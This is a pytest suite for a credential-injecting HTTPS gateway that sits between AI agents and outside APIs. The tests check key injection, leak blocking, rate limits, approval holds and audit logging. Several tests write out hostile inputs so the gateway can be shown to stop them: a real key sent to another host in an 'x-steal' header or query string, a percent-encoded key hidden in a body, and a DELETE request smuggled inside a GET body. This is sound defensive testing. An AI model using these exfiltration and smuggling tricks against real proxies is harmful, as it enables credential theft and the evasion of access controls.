"""The gateway against fake sites on loopback, driven as agents drive it: through the relay, over
HTTPS with the gateway's CA (and over plain HTTP on the model compatibility path)."""

from __future__ import annotations

import asyncio
import base64
import json
import logging
import ssl
import time
from collections.abc import AsyncIterator, Callable
from pathlib import Path

import h11
import httpx
import pytest

from services.vault.approvals import ApprovalAsk, card_for
from services.vault.audit import AuditRecord
from services.vault.catalog import Catalog
from services.vault.gateway import Gateway, connect_target, proxy_token, split_target, token_hash
from tests.eventually import eventually
from tests.fakes.anthropic import FakeTLS
from tests.vault.conftest import GROUP, RigFactory, relay, rule, secret
from tests.vault.sites import (
    WEBSOCKET_ASK,
    FakeUpstream,
    LaxSite,
    Received,
    Reply,
    close_writer,
    open_tunnel,
    read_response,
    send_raw,
)

# Imported by tests/container/test_relay.py.
__all__ = ["PLACEHOLDER", "REAL_KEY", "FakeUpstream"]

REAL_KEY = "sk-ant-api03-real-secret-key"
PLACEHOLDER = "clawden-managed"
GITHUB_TOKEN = "ghp_real-github-token-0123456789"
OPENAI_KEY = "sk-proj-real-openai-key-abcdef"

pytestmark = pytest.mark.timeout(15)


def model_key() -> tuple:  # type: ignore[type-arg]
    return (secret("anthropic", "anthropic", "api.anthropic.com", REAL_KEY),)


def placeholder_headers() -> dict[str, str]:
    return {"x-api-key": PLACEHOLDER, "anthropic-version": "2023-06-01", "content-type": "application/json"}


def nothing_secret_in(text: str) -> bool:
    return all(v not in text for v in (REAL_KEY, GITHUB_TOKEN, OPENAI_KEY))


# ---- small pure pieces ----


def test_targets_and_proxy_tokens_parse() -> None:
    assert split_target(b"/v1/messages?beta=true") == (None, b"/v1/messages?beta=true")
    assert split_target(b"http://Example.com") == ("example.com", b"/")
    assert split_target(b"*") is None
    assert connect_target(b"API.github.com:443") == ("api.github.com", 443)
    assert connect_target(b"[::1]:8443") == ("::1", 8443)
    assert connect_target(b"api.github.com") is None
    assert connect_target(b"host:99999") is None
    basic = base64.b64encode(b"main:clp_abc").decode()
    assert proxy_token([(b"proxy-authorization", f"Basic {basic}".encode())]) == "clp_abc"
    assert proxy_token([(b"proxy-authorization", b"Bearer x")]) is None


# ---- HTTPS through the relay: interception and injection ----


async def test_https_request_gets_the_real_key_and_the_agent_never_sees_it(rig: RigFactory) -> None:
    async with rig(model_key()) as r, r.client() as http:
        response = await http.post(
            "https://api.anthropic.com/v1/messages?beta=true", headers=placeholder_headers(), content=b'{"model":"m"}'
        )

    assert response.status_code == 200
    assert response.json()["echo"] == "/v1/messages?beta=true"
    (seen,) = r.site.received
    assert seen.header(b"x-api-key") == REAL_KEY.encode()
    assert seen.header(b"host") == b"api.anthropic.com"
    assert seen.body == b'{"model":"m"}'
    assert all(PLACEHOLDER.encode() not in value for _, value in seen.headers)
    assert nothing_secret_in(response.text) and nothing_secret_in(str(response.headers))
    (record,) = r.audit
    assert (record.method, record.host, record.path, record.status, record.injected) == (
        "POST",
        "api.anthropic.com",
        "/v1/messages",
        200,
        ("anthropic",),
    )


async def test_a_client_without_the_ca_fails_tls_and_the_failure_is_audited(rig: RigFactory) -> None:
    async with rig(model_key()) as r:
        async with httpx.AsyncClient(proxy=f"http://127.0.0.1:{r.relay_port}", trust_env=False, timeout=5) as http:
            with pytest.raises(httpx.ConnectError):
                await http.get("https://api.anthropic.com/v1/models")
        await eventually(lambda: r.audit)  # the failed handshake is audited as the tunnel closes

    assert r.site.received == []
    assert [(a.method, a.host, a.decision) for a in r.audit] == [("CONNECT", "api.anthropic.com", "tls_failed")]


async def test_each_secret_type_is_injected_its_own_way(rig: RigFactory) -> None:
    credentials = (
        secret(
            "github",
            "generic",
            "api.example.test",
            GITHUB_TOKEN,
            header_name="Authorization",
            value_format="token {value}",
        ),
        secret("maps", "generic", "other.example.test", "maps-key-123456", param_name="key"),
        secret("openai", "openai", "api.openai.com", OPENAI_KEY),
    )
    async with rig(credentials) as r, r.client() as http:
        await http.get("https://api.example.test/user", headers={"authorization": "Bearer placeholder"})
        await http.get("https://other.example.test/geo?q=paris&key=placeholder&sig=a%2Fb")
        await http.post("https://api.openai.com/v1/chat", content=b"{}")

    github, maps, openai = r.site.received
    assert github.header(b"authorization") == f"token {GITHUB_TOKEN}".encode()
    assert maps.target == b"/geo?q=paris&sig=a%2Fb&key=maps-key-123456"
    assert openai.header(b"authorization") == f"Bearer {OPENAI_KEY}".encode()


async def test_oauth_model_tokens_go_as_bearer_with_the_oauth_beta(rig: RigFactory) -> None:
    oauth = (secret("anthropic", "anthropic", "api.anthropic.com", "sk-ant-oat01-oauth-token-value"),)
    async with rig(oauth) as r, r.client() as http:
        await http.post(
            "https://api.anthropic.com/v1/messages",
            content=b"{}",
            headers=placeholder_headers() | {"anthropic-beta": "prompt-caching-2024-07-31"},
        )

    (seen,) = r.site.received
    assert seen.header(b"x-api-key") is None
    assert seen.header(b"authorization") == b"Bearer sk-ant-oat01-oauth-token-value"
    assert seen.header(b"anthropic-beta") == b"prompt-caching-2024-07-31,oauth-2025-04-20"


async def test_sse_flows_event_by_event_through_the_tunnel(rig: RigFactory, site: FakeUpstream) -> None:
    second_may_go = asyncio.Event()

    async def respond_sse(request: Received, reply: Reply) -> None:
        await reply.send(h11.Response(status_code=200, headers=[(b"content-type", b"text/event-stream")]))
        await reply.send(h11.Data(data=b"event: message_start\ndata: {}\n\n"))
        await second_may_go.wait()
        await reply.send(h11.Data(data=b"event: message_stop\ndata: {}\n\n"))
        await reply.send(h11.EndOfMessage())

    site.respond = respond_sse
    async with (
        rig(model_key()) as r,
        r.client() as http,
        http.stream("POST", "https://api.anthropic.com/v1/messages", content=b"{}") as response,
    ):
        chunks = response.aiter_raw()
        first = await anext(chunks)
        assert not second_may_go.is_set()  # the site still holds the second event back
        second_may_go.set()
        rest = b"".join([chunk async for chunk in chunks])

    assert first == b"event: message_start\ndata: {}\n\n"
    assert rest == b"event: message_stop\ndata: {}\n\n"


async def test_requests_in_one_tunnel_share_one_upstream_connection(rig: RigFactory) -> None:
    async with rig(model_key()) as r, r.client() as http:
        for n in range(3):
            response = await http.post(f"https://api.anthropic.com/v1/messages/{n}", content=b'{"n":%d}' % n)
            assert response.json()["echo"] == f"/v1/messages/{n}"

    assert [x.body for x in r.site.received] == [b'{"n":0}', b'{"n":1}', b'{"n":2}']
    assert r.site.connections == 1


async def test_hop_by_hop_headers_are_stripped_both_ways(rig: RigFactory) -> None:
    headers = {
        "connection": "keep-alive, x-agent-hop",
        "x-agent-hop": "1",
        "keep-alive": "timeout=30",
        "te": "trailers",
        "proxy-authorization": "Basic eDp5",
    }
    async with rig(model_key()) as r, r.client() as http:
        response = await http.post("https://api.anthropic.com/v1/messages", headers=headers, content=b"{}")

    names = {name for name, _ in r.site.received[0].headers}
    assert names.isdisjoint({b"connection", b"x-agent-hop", b"keep-alive", b"proxy-authorization", b"te"})
    assert "x-upstream-hop" not in response.headers and "keep-alive" not in response.headers
    assert response.headers["request-id"] == "req_1"


async def test_a_big_request_body_streams_through_whole(rig: RigFactory) -> None:
    async def body() -> AsyncIterator[bytes]:
        for part in (b'{"messages":', b"[" + b"x" * 300_000 + b"]", b"}"):
            yield part
            await asyncio.sleep(0)

    async with rig(model_key()) as r, r.client() as http:
        response = await http.post("https://api.anthropic.com/v1/messages", content=body())

    assert response.status_code == 200
    assert r.site.received[0].body == b'{"messages":[' + b"x" * 300_000 + b"]}"
    assert r.audit[0].bytes_in == len(r.site.received[0].body)


async def test_redirects_are_passed_back_not_followed(rig: RigFactory, site: FakeUpstream) -> None:
    async def respond_redirect(request: Received, reply: Reply) -> None:
        await reply.send(
            h11.Response(
                status_code=307, headers=[(b"location", b"https://elsewhere.test/x"), (b"content-length", b"0")]
            )
        )
        await reply.send(h11.EndOfMessage())

    site.respond = respond_redirect
    async with rig() as r, r.client() as http:
        response = await http.get("https://api.example.test/moved")

    assert (response.status_code, response.headers["location"]) == (307, "https://elsewhere.test/x")
    assert len(r.site.received) == 1


async def test_websocket_upgrade_is_piped_after_injection(rig: RigFactory, site: FakeUpstream) -> None:
    async def respond_upgrade(request: Received, reply: Reply) -> None:
        await reply.send(
            h11.InformationalResponse(
                status_code=101,
                headers=[(b"upgrade", b"websocket"), (b"connection", b"Upgrade"), (b"sec-websocket-accept", b"abc=")],
            )
        )
        writer = reply._writer
        writer.write(b"hello from the site")
        await writer.drain()

    site.respond = respond_upgrade
    token = (
        secret(
            "ws",
            "generic",
            "api.example.test",
            GITHUB_TOKEN,
            header_name="Authorization",
            value_format="Bearer {value}",
        ),
    )
    async with rig(token) as r:
        reader, writer = await open_tunnel(r.socket, "api.example.test", r.gateway.ca.cert_pem)
        try:
            writer.write(WEBSOCKET_ASK)
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
            greeting = await asyncio.wait_for(reader.readexactly(len(b"hello from the site")), 5)
        finally:
            await close_writer(writer)

    assert head.startswith(b"HTTP/1.1 101 ")
    assert b"sec-websocket-accept: abc=" in head.lower()
    assert greeting == b"hello from the site"
    (seen,) = r.site.received
    assert seen.header(b"upgrade") == b"websocket"
    assert seen.header(b"authorization") == f"Bearer {GITHUB_TOKEN}".encode()


async def test_the_selftest_host_is_answered_by_the_gateway_itself(rig: RigFactory) -> None:
    async with rig() as r, r.client() as http:
        ping = await http.get("https://selftest.clawden.invalid/")
        turn = await http.post("https://selftest.clawden.invalid/v1/messages", json={"model": "x", "stream": True})

    assert ping.json() == {"ok": True, "service": "clawden-vault", "agent_group": GROUP}
    assert "clawden-selftest-ok" in turn.text and turn.headers["content-type"] == "text/event-stream"
    assert r.site.received == []


# ---- when nothing was injected ----


async def test_an_auth_failure_without_a_credential_tells_the_agent_what_to_ask_for(
    rig: RigFactory, site: FakeUpstream
) -> None:
    async def respond_401(request: Received, reply: Reply) -> None:
        body = b'{"message":"Bad credentials"}'
        await reply.send(h11.Response(status_code=401, headers=[(b"content-length", str(len(body)).encode())]))
        await reply.send(h11.Data(data=body))
        await reply.send(h11.EndOfMessage())

    site.respond = respond_401
    others = (
        secret("github", "generic", "api.example.test", GITHUB_TOKEN, grants=("work",), header_name="Authorization"),
    )
    async with rig(others) as r, r.client() as http:
        unknown = await http.get("https://other.example.test/v1/things")
        restricted = await http.get("https://api.example.test/user")

    assert unknown.status_code == 401
    assert unknown.headers["x-should-retry"] == "false"
    body = unknown.json()
    assert (body["error"], body["hostname"], body["path"]) == (
        "credential_not_found",
        "other.example.test",
        "/v1/things",
    )
    assert "clawden secrets add" in body["message"] and "--host other.example.test" in body["message"]
    assert restricted.status_code == 401
    assert restricted.json()["error"] == "access_restricted" and restricted.json()["secrets"] == ["github"]
    assert nothing_secret_in(restricted.text)


async def test_an_auth_failure_with_an_injected_key_passes_through(rig: RigFactory, site: FakeUpstream) -> None:
    async def respond_401(request: Received, reply: Reply) -> None:
        await reply.send(h11.Response(status_code=401, headers=[(b"content-length", b"2")]))
        await reply.send(h11.Data(data=b"no"))
        await reply.send(h11.EndOfMessage())

    site.respond = respond_401
    others = (secret("github", "generic", "api.example.test", GITHUB_TOKEN, header_name="Authorization"),)
    async with rig((*model_key(), *others)) as r, r.client() as http:
        response = await http.post("https://api.anthropic.com/v1/messages", content=b"{}")
        elsewhere = await http.get("https://api.example.test/user")

    assert (response.status_code, response.text) == (401, "no")
    # The model API refused the vault's key: Claude Code is told not to try the same key again for minutes.
    assert response.headers["x-should-retry"] == "false"
    assert (elsewhere.status_code, "x-should-retry" in elsewhere.headers) == (401, False)  # another site's own say


# ---- rules, egress, leaks ----


async def test_a_blocked_path_gets_403_and_never_reaches_the_site(rig: RigFactory) -> None:
    rules = (rule("no-deletes", "block", "api.example.test", method="DELETE", path_pattern="/repos/*"),)
    async with rig(rules=rules) as r, r.client() as http:
        blocked = await http.delete("https://api.example.test/repos/x/y")
        allowed = await http.get("https://api.example.test/repos/x/y")

    assert blocked.status_code == 403
    assert blocked.json() == {
        "error": "blocked_by_policy",
        "message": blocked.json()["message"],
        "method": "DELETE",
        "host": "api.example.test",
        "path": "/repos/x/y",
        "rule_name": "no-deletes",
    }
    assert allowed.status_code == 200
    assert [x.method for x in r.site.received] == [b"GET"]
    assert [(a.decision, a.rule) for a in r.audit] == [("blocked", "no-deletes"), ("allowed", "")]


async def test_a_rate_limited_host_answers_429_after_the_limit(rig: RigFactory) -> None:
    now = [1_000_000.0]
    rules = (rule("slow", "rate_limit", "api.example.test", rate_limit=2, rate_window="minute"),)
    async with rig(rules=rules, clock=lambda: now[0]) as r, r.client() as http:
        statuses = [(await http.get("https://api.example.test/x")).status_code for _ in range(3)]
        limited = await http.get("https://api.example.test/x")
        now[0] += 60
        later = [(await http.get("https://api.example.test/y")).status_code for _ in range(4)]

    assert statuses == [200, 200, 429]
    assert limited.headers["retry-after"] == "20"  # 1,000,000 s is 40 s into its minute
    assert limited.json()["error"] == "rate_limited" and limited.json()["limit"] == 2
    assert later == [200, 200, 429, 429]
    assert len(r.site.received) == 4
    # The owner hears of it once per window: four 429s in two minutes, two cards.
    assert [(t.rule, t.agent_group, t.limit, t.window, t.path) for t in r.approver.trips] == [
        ("slow", GROUP, 2, "minute", "/x"),
        ("slow", GROUP, 2, "minute", "/y"),
    ]
    first, second = r.approver.trips
    assert first.id != second.id and first.resets_at == 1_000_020.0


async def test_allowlist_egress_lets_through_only_hosts_with_a_secret_or_an_allow_rule(rig: RigFactory) -> None:
    credentials = (secret("github", "generic", "api.example.test", GITHUB_TOKEN, header_name="Authorization"),)
    rules = (rule("openai-ok", "allow", "api.openai.com"),)
    async with rig(credentials, rules, egress={GROUP: "allowlist"}) as r, r.client() as http:
        with_secret = await http.get("https://api.example.test/")
        with_rule = await http.get("https://api.openai.com/")
        neither = await http.get("https://other.example.test/")

    assert (with_secret.status_code, with_rule.status_code, neither.status_code) == (200, 200, 403)
    assert neither.json()["error"] == "blocked_by_default_policy"
    assert neither.json()["host"] == "other.example.test"


async def test_a_secret_value_sent_to_another_host_is_blocked(rig: RigFactory) -> None:
    credentials = (
        *model_key(),
        secret("github", "generic", "api.example.test", GITHUB_TOKEN, header_name="Authorization"),
    )
    async with rig(credentials) as r, r.client() as http:
        in_header = await http.get("https://other.example.test/", headers={"x-steal": f"k={REAL_KEY}"})
        in_query = await http.get(f"https://other.example.test/?t={GITHUB_TOKEN}")
        to_its_host = await http.get("https://api.example.test/", headers={"x-echo": GITHUB_TOKEN})

    assert in_header.status_code == in_query.status_code == 403
    assert in_header.json()["error"] == "secret_leak_blocked" and in_header.json()["secret"] == "anthropic"
    assert in_query.json()["secret"] == "github"
    assert nothing_secret_in(in_header.text + in_query.text)
    assert to_its_host.status_code == 200
    assert len(r.site.received) == 1


def streamed(*parts: bytes) -> Callable[[], AsyncIterator[bytes]]:
    async def body() -> AsyncIterator[bytes]:
        for part in parts:
            yield part
            await asyncio.sleep(0.05)

    return body


async def test_a_stored_value_in_a_streamed_body_is_redacted_and_a_disguised_one_refused(rig: RigFactory) -> None:
    half = len(REAL_KEY) // 2
    plain = streamed(
        b'{"a":"' + b"x" * 100_000,
        REAL_KEY[:half].encode(),  # the value straddles two chunks
        REAL_KEY[half:].encode() + b'"}',
    )
    escaped = "".join(f"%{b:02X}" for b in REAL_KEY.encode()).encode()
    disguised = streamed(b'{"a":"' + b"x" * 100_000, escaped[:30], escaped[30:] + b'"}')
    async with rig(model_key()) as r, r.client() as http:
        redacted = await http.post("https://other.example.test/upload", content=plain())
        refused = await http.post("https://other.example.test/upload", content=disguised())
        after = await http.get("https://other.example.test/fine")

    assert redacted.status_code == 200 and refused.status_code == 403
    assert refused.json()["error"] == "secret_leak_blocked"
    (upload, fine) = r.site.received
    assert len(upload.body) == 100_000 + len(b'{"a":""}') + len(REAL_KEY) and REAL_KEY.encode() not in upload.body
    assert b"[redacted]" in upload.body and fine.target == b"/fine" and after.status_code == 200
    assert [a.decision for a in r.audit if a.path == "/upload"] == ["redacted", "leak_blocked"]


# ---- approval ----


async def test_an_approval_gated_request_waits_then_passes_on_approve(rig: RigFactory) -> None:
    rules = (rule("ask-pay", "manual_approval", "api.example.test", path_pattern="/pay/*"),)
    credentials = (secret("bank", "generic", "api.example.test", GITHUB_TOKEN, header_name="Authorization"),)
    async with rig(credentials, rules) as r, r.client() as http:
        held = asyncio.create_task(
            http.post(
                "https://api.example.test/pay/42", content=b'{"amount":5,"token":"' + GITHUB_TOKEN.encode() + b'"}'
            )
        )
        await asyncio.wait_for(r.approver.asked.wait(), 5)
        async with r.client() as other:  # a held request does not hold up the gateway
            assert (await other.get("https://api.example.test/balance")).status_code == 200
        assert not held.done() and [x.target for x in r.site.received] == [b"/balance"]
        r.approver.answer("approved")
        response = await held

    assert response.status_code == 200
    (ask,) = r.approver.asks
    assert (ask.method, ask.host, ask.path, ask.rule, ask.agent_group) == (
        "POST",
        "api.example.test",
        "/pay/42",
        "ask-pay",
        GROUP,
    )
    assert '"amount":5' in ask.preview and nothing_secret_in(ask.preview)
    assert r.site.received[-1].header(b"authorization") == GITHUB_TOKEN.encode()
    assert [(a.decision, a.approval_id == ask.id) for a in r.audit if a.path == "/pay/42"] == [("approved", True)]


async def test_a_request_two_approval_rules_hold_is_asked_for_twice_each_its_own_approval(rig: RigFactory) -> None:
    """Each ask is its own approval (its id is the approvals service's key and the bus's dedupe key): a second ask
    under the first one's id would be dropped as a duplicate, and the request could never pass."""
    rules = (
        rule("ask-pay", "manual_approval", "api.example.test", path_pattern="/pay/*"),
        rule("ask-all", "manual_approval", "api.example.test"),
    )
    async with rig(rules=rules) as r, r.client() as http:
        r.approver.answer("approved", "approved")
        response = await http.post("https://api.example.test/pay/42", content=b"{}")

    assert response.status_code == 200
    first, second = r.approver.asks
    assert {first.rule, second.rule} == {"ask-pay", "ask-all"} and first.id != second.id


@pytest.mark.parametrize("outcome", ["denied", "expired"])
async def test_an_approval_gated_request_fails_on_deny_or_expiry(rig: RigFactory, outcome: str) -> None:
    rules = (rule("ask-all", "manual_approval", "api.example.test"),)
    async with rig(rules=rules) as r, r.client() as http:
        r.approver.answer(outcome)  # type: ignore[arg-type]
        response = await http.post("https://api.example.test/pay", content=b"{}")

    assert response.status_code == 403
    body = response.json()
    assert body["error"] == "manual_approval_denied" and body["approval_id"] == r.approver.asks[0].id
    assert ("denied" if outcome == "denied" else "timed out") in body["message"]
    assert r.site.received == []


async def test_an_ask_expires_approval_timeout_after_it_is_held(rig: RigFactory) -> None:
    """The gateway gives the approver the expiry and takes its word for the end of the wait (it has no timer of its
    own): "expired" refuses the request as timed out."""
    rules = (rule("ask-all", "manual_approval", "api.example.test"),)
    async with rig(rules=rules, approval_timeout=0.2) as r, r.client() as http:
        r.approver.answer("expired")
        before = time.time()
        response = await http.get("https://api.example.test/")
        after = time.time()

    assert before + 0.2 <= r.approver.asks[0].expires_at <= after + 0.2
    assert response.status_code == 403 and "timed out" in response.json()["message"]


async def test_an_agent_that_hangs_up_while_held_withdraws_the_ask(rig: RigFactory) -> None:
    rules = (rule("ask-all", "manual_approval", "api.example.test"),)
    async with rig(rules=rules) as r:
        _, writer = await open_tunnel(r.socket, "api.example.test", r.gateway.ca.cert_pem)
        writer.write(b"GET / HTTP/1.1\r\nHost: api.example.test\r\n\r\n")
        await asyncio.wait_for(r.approver.asked.wait(), 5)
        await close_writer(writer)
        await eventually(lambda: r.approver.cancelled, timeout=5)

    assert r.approver.cancelled == 1
    assert r.site.received == []


# ---- bad input and bad sites ----


async def test_malformed_request_gets_400_and_the_connection_closes(rig: RigFactory) -> None:
    async with rig() as r:
        reader, writer = await send_raw(r.socket, b"THIS IS NOT HTTP\r\n\r\n")
        try:
            answer = await asyncio.wait_for(reader.read(), 2)  # read() to EOF proves the close
        finally:
            await close_writer(writer)

    assert answer.startswith(b"HTTP/1.1 400 ")
    assert b'"bad_request"' in answer


async def test_oversized_headers_get_431_and_others_are_still_served(rig: RigFactory) -> None:
    async with rig(model_key()) as r:
        huge = b"GET / HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 70_000 + b"\r\n\r\n"
        reader, writer = await send_raw(r.socket, huge)
        try:
            answer = await asyncio.wait_for(reader.read(), 2)
        finally:
            await close_writer(writer)
        async with r.client() as http:
            fine = await http.get("https://api.example.test/")

    assert answer.startswith(b"HTTP/1.1 431 ")
    assert fine.status_code == 200


async def test_a_client_that_leaves_mid_body_does_not_disturb_others(rig: RigFactory) -> None:
    async with rig(model_key()) as r:
        _, writer = await open_tunnel(r.socket, "api.example.test", r.gateway.ca.cert_pem)
        writer.write(b"POST /upload HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 100000\r\n\r\n" + b"x" * 10)
        await writer.drain()
        await asyncio.sleep(0.1)
        writer.transport.abort()
        async with r.client() as http:
            fine = await http.get("https://api.example.test/after")

    assert fine.status_code == 200
    assert r.site.received[-1].target == b"/after"


async def test_a_hanging_site_gives_504_and_a_resetting_one_502(rig: RigFactory, site: FakeUpstream) -> None:
    async def respond(request: Received, reply: Reply) -> None:
        if request.target == b"/hang":
            await asyncio.Event().wait()  # hangs until the site closes
        elif request.target == b"/reset":
            reply._writer.transport.abort()
        else:
            from tests.vault.sites import respond_json

            await respond_json(request, reply)

    site.respond = respond
    async with rig(read_timeout=0.3) as r, r.client() as http:
        hung = await http.get("https://api.example.test/hang")
        reset = await http.get("https://api.example.test/reset")
        fine = await http.get("https://api.example.test/fine")

    assert (hung.status_code, hung.json()["error"]) == (504, "gateway_timeout")
    assert (reset.status_code, reset.json()["error"]) == (502, "bad_gateway")
    assert fine.status_code == 200


async def test_names_that_resolve_to_private_addresses_are_not_reached(rig: RigFactory) -> None:
    async with rig() as r, r.client() as http:
        response = await http.get("https://localhost/admin")

    assert response.status_code == 403 and response.json()["error"] == "private_address_blocked"


# ---- the compatibility path: plain HTTP to model.upstream ----


async def test_plain_http_model_requests_get_the_key_from_model_upstream(rig: RigFactory) -> None:
    plain_site = await FakeUpstream().start()
    try:
        async with rig(model_key(), model_upstream=plain_site.url) as r:
            async with r.plain() as http:
                response = await http.post("/v1/messages?beta=true", headers=placeholder_headers(), content=b"{}")
            # What a client sends through HTTP_PROXY: the absolute URL of the site it wants.
            reader, writer = await send_raw(r.socket, b"GET http://example.com/x HTTP/1.1\r\nHost: example.com\r\n\r\n")
            try:
                other, body = await read_response(h11_client("GET", b"http://example.com/x"), reader)
            finally:
                await close_writer(writer)
    finally:
        await plain_site.close()

    assert response.status_code == 200
    (seen,) = plain_site.received
    assert seen.header(b"x-api-key") == REAL_KEY.encode() and seen.target == b"/v1/messages?beta=true"
    assert other.status_code == 403 and json.loads(body)["error"] == "plain_http_refused"


def h11_client(method: str, target: bytes) -> h11.Connection:
    """An h11 client connection that has already sent a body-less ``method target``."""
    conn = h11.Connection(h11.CLIENT)
    conn.send(h11.Request(method=method, target=target, headers=[("host", "x")]))
    conn.send(h11.EndOfMessage())
    return conn


async def test_a_down_model_upstream_gives_a_502_without_the_key(sock_dir: object) -> None:
    from pathlib import Path

    from clawden.natsserver import free_port

    dead_port = free_port()
    gateway = Gateway(f"http://127.0.0.1:{dead_port}", REAL_KEY)
    path = Path(str(sock_dir)) / "gw.sock"
    await gateway.listen(GROUP, path)
    try:
        transport = httpx.AsyncHTTPTransport(uds=str(path))
        async with httpx.AsyncClient(transport=transport, base_url="http://gateway") as http:
            response = await http.post("/v1/messages", headers=placeholder_headers(), content=b"{}")
    finally:
        await gateway.close()

    assert response.status_code == 502 and response.json()["error"] == "bad_gateway"
    assert nothing_secret_in(response.text) and nothing_secret_in(str(response.headers))


# ---- the TCP fallback ----


async def test_the_tcp_listener_needs_the_groups_proxy_token(rig: RigFactory) -> None:
    async with rig(model_key()) as r:
        r.gateway.update_tokens({token_hash("clp_good"): "work"})
        port = await r.gateway.listen_tcp("127.0.0.1", 0)
        context = ssl.create_default_context(cadata=r.gateway.ca.cert_pem.decode())
        async with httpx.AsyncClient(proxy=f"http://127.0.0.1:{port}", verify=context, trust_env=False) as none:
            with pytest.raises(httpx.ProxyError, match="407"):
                await none.get("https://api.anthropic.com/v1/models")
        async with httpx.AsyncClient(
            proxy=f"http://work:clp_bad@127.0.0.1:{port}", verify=context, trust_env=False
        ) as wrong:
            with pytest.raises(httpx.ProxyError, match="407"):
                await wrong.get("https://api.anthropic.com/v1/models")
        async with httpx.AsyncClient(
            proxy=f"http://work:clp_good@127.0.0.1:{port}", verify=context, trust_env=False
        ) as right:
            response = await right.get("https://api.anthropic.com/v1/models")

    assert response.status_code == 200
    assert [a.agent_group for a in r.audit if a.host == "api.anthropic.com"] == ["work"]


# ---- a value never shows ----


async def test_no_secret_value_reaches_logs_audit_or_errors(
    rig: RigFactory, caplog: pytest.LogCaptureFixture, site: FakeUpstream
) -> None:
    caplog.set_level(logging.DEBUG)
    credentials = (
        *model_key(),
        secret("github", "generic", "api.example.test", GITHUB_TOKEN, header_name="Authorization"),
    )
    rules = (
        rule("ask", "manual_approval", "other.example.test", path_pattern="/ask"),
        rule("nope", "block", "other.example.test", path_pattern="/blocked"),
    )
    async with rig(credentials, rules, read_timeout=0.3) as r, r.client() as http:
        r.approver.answer("denied")
        texts = [
            (await http.get("https://api.example.test/ok")).text,
            (await http.get("https://other.example.test/blocked")).text,
            (await http.post("https://other.example.test/ask", content=f'{{"t":"{GITHUB_TOKEN}"}}'.encode())).text,
            (await http.get("https://other.example.test/leak", headers={"x": REAL_KEY})).text,
            (await http.get("https://localhost/private")).text,
        ]

    everything = "\n".join([*texts, caplog.text, repr(r.audit), repr(r.approver.asks), repr(r.gateway.catalog)])
    assert nothing_secret_in(everything)
    assert isinstance(r.audit[0], AuditRecord)


def test_a_catalog_repr_hides_values() -> None:
    catalog = Catalog(credentials=model_key())
    assert REAL_KEY not in repr(catalog) and REAL_KEY not in str(catalog.credentials)
    assert json.dumps([c.secret.name for c in catalog.credentials]) == '["anthropic"]'


# --- no smuggling through upstream connections (issue: a hostile agent) ------------------------------


@pytest.fixture
async def lax_site(site_tls: FakeTLS) -> AsyncIterator[LaxSite]:
    site = await LaxSite().start(site_tls.server_context)
    yield site
    await site.close()


async def test_a_body_on_a_get_is_refused_so_it_cannot_become_a_request_no_rule_saw(
    rig: RigFactory, lax_site: LaxSite
) -> None:
    smuggled = b"DELETE /repos/acme/prod HTTP/1.1\r\nHost: api.example.test\r\n\r\n"
    async with (
        rig(
            rules=(rule("no-deletes", "block", "api.example.test", method="DELETE"),), site_address=lax_site.address
        ) as r,
        r.client() as client,
    ):
        refused = await client.request("GET", "https://api.example.test/repos/acme", content=smuggled)
        fine = await client.get("https://api.example.test/repos/acme")

    assert refused.status_code == 400 and refused.json()["error"] == "body_not_allowed"
    assert fine.status_code == 200
    assert [(method, target) for _, method, target, _ in lax_site.served] == [("GET", "/repos/acme")]


async def test_two_agent_groups_never_share_an_upstream_connection(
    rig: RigFactory, lax_site: LaxSite, sock_dir: Path
) -> None:
    family = secret(
        "family-token",
        "generic",
        "api.example.test",
        "tok-family",
        grants=(GROUP,),
        header_name="authorization",
        value_format="Bearer {value}",
    )
    other = secret(
        "other-token",
        "generic",
        "api.example.test",
        "tok-other",
        grants=("other",),
        header_name="authorization",
        value_format="Bearer {value}",
    )
    async with rig(credentials=(family, other), site_address=lax_site.address) as r:
        await r.gateway.listen("other", sock_dir / "other" / "gateway.sock")
        other_relay = await relay.serve_relay(str(sock_dir / "other" / "gateway.sock"))
        context = ssl.create_default_context(cadata=r.gateway.ca.cert_pem.decode())
        try:
            async with (
                r.client() as mine,
                httpx.AsyncClient(
                    proxy=f"http://127.0.0.1:{other_relay.sockets[0].getsockname()[1]}",
                    verify=context,
                    trust_env=False,
                    timeout=5,
                ) as theirs,
            ):
                for _ in range(3):
                    assert (await mine.get("https://api.example.test/a")).status_code == 200
                    assert (await theirs.get("https://api.example.test/b")).status_code == 200
        finally:
            other_relay.close()
            await other_relay.wait_closed()

    tokens: dict[int, set[str]] = {}
    for connection, _, _, authorization in lax_site.served:
        tokens.setdefault(connection, set()).add(authorization)
    assert len(lax_site.served) == 6 and all(len(seen) == 1 for seen in tokens.values()), tokens


async def test_an_approval_card_shows_the_whole_target_and_says_when_the_body_is_cut(rig: RigFactory) -> None:
    rules = (rule("ask-all", "manual_approval", "api.example.test"),)
    big = b'{"to": "acct_9", "memo": "' + b"x" * 10_000 + b'"}'
    async with rig(rules=rules) as r, r.client() as http:
        held = asyncio.create_task(http.post("https://api.example.test/pay?to=acct_9&amount=500", content=big))
        await asyncio.wait_for(r.approver.asked.wait(), 5)
        r.approver.answer("denied")
        await held

    (ask,) = r.approver.asks
    body = card_for(ask).body
    assert ask.path == "/pay?to=acct_9&amount=500" and "https://api.example.test/pay?to=acct_9&amount=500" in body
    assert f"only its start is shown, of {len(big):,} bytes in all" in body


async def test_an_upgrade_other_than_websocket_never_turns_the_connection_into_a_pipe(
    rig: RigFactory, site: FakeUpstream
) -> None:
    async def switch_anyway(request: Received, reply: Reply) -> None:  # a site that switches to h2c unasked
        reply._writer.write(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n")
        await reply._writer.drain()

    site.respond = switch_anyway
    async with rig() as r:
        reader, writer = await open_tunnel(r.socket, "api.example.test", r.gateway.ca.cert_pem)
        try:
            writer.write(
                b"GET / HTTP/1.1\r\nHost: api.example.test\r\nUpgrade: h2c\r\nConnection: Upgrade, "
                b"HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"
            )
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
        finally:
            await close_writer(writer)

    (seen,) = r.site.received
    assert seen.header(b"upgrade") is None  # not asked of the site
    assert head.startswith(b"HTTP/1.1 502 ")  # and a switch it made anyway is not piped
    assert [a.status for a in r.audit if a.path == "/"] == [502]


